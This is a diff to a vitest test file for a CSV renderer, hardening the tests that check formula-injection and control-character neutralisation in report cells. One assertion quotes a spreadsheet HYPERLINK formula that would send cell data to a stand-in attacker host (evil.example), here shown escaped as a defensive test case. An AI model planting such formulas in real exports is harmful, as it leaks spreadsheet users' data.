@@ -2,6 +2,7 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { CsvTable } from '../src/render/render-csv.js';
 import { renderCsv } from '../src/render/render-csv.js';
+import { toSingleLine } from '../src/render/single-line.js';
 import { ReportError } from '../src/report-error.js';
 import {
   groupedReport,
@@ -161,6 +162,11 @@ describe('renderCsv', () => {
   });
 
   it('quotes per RFC 4180 and neutralises formulas in every text cell', () => {
+    /** A name as a cell shows it: one inert line, prefixed when a spreadsheet would run it. */
+    const neutralisedName = (name: string) => {
+      const line = toSingleLine(name);
+      return /^\s*[=+\-@]/.test(line) ? `'${line}` : line;
+    };
     const report = hostileReport();
     for (const table of ['jobs', 'vms'] as const) {
       const csv = renderCsv(report, { table });
@@ -169,28 +175,27 @@ describe('renderCsv', () => {
       expect(rows).toHaveLength(HOSTILE_NAMES.length);
       for (const row of rows) {
         expect(row).toHaveLength(header?.length ?? 0);
-        for (const field of row) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);
+        for (const field of row) {
+          expect(field).not.toMatch(/^\s*[=+@]|^\s*-(?!\d+(?:\.\d+)?$)/);
+          expect(field).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u);
+        }
       }
     }
     const [header, ...groupRows] = parseCsv(renderCsv(report, { table: 'groups' }));
     expect(groupRows).toHaveLength(2 * HOSTILE_NAMES.length);
     for (const row of groupRows) {
       expect(row).toHaveLength(header?.length ?? 0);
-      for (const field of row) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d+(?:\.\d+)?$)/);
+      for (const field of row) expect(field).not.toMatch(/^\s*[=+@]|^\s*-(?!\d+(?:\.\d+)?$)/);
     }
     expect(groupRows.map((row) => row[1]).sort()).toEqual(
-      [...HOSTILE_NAMES, ...HOSTILE_NAMES]
-        .map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name))
-        .sort(),
+      [...HOSTILE_NAMES, ...HOSTILE_NAMES].map(neutralisedName).sort(),
     );
     const [, ...jobRows] = parseCsv(renderCsv(report));
-    expect(jobRows.map((row) => row[1])).toEqual(
-      HOSTILE_NAMES.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)),
-    );
+    expect(jobRows.map((row) => row[1])).toEqual(HOSTILE_NAMES.map(neutralisedName));
     expect(renderCsv(report)).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",`);
   });
 
-  it('reads back to the text it was given, whatever the text', () => {
+  it('reads back to the text it was given as one inert line, whatever the text', () => {
     fc.assert(
       fc.property(
         fc.string({ unit: 'binary' }),
@@ -201,7 +206,10 @@ describe('renderCsv', () => {
             vmReport({ vmName, failureReasons: [{ normalized: 'x', example, count: 1 }] }),
           ];
           const [, row] = parseCsv(renderCsv(report, { table: 'vms' }));
-          const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+          const neutralised = (text: string) => {
+            const line = toSingleLine(text);
+            return /^\s*[=+\-@]/.test(line) ? `'${line}` : line;
+          };
           expect(row?.[0]).toBe(neutralised(vmName));
           expect(row?.[10]).toBe(neutralised(example));
         },
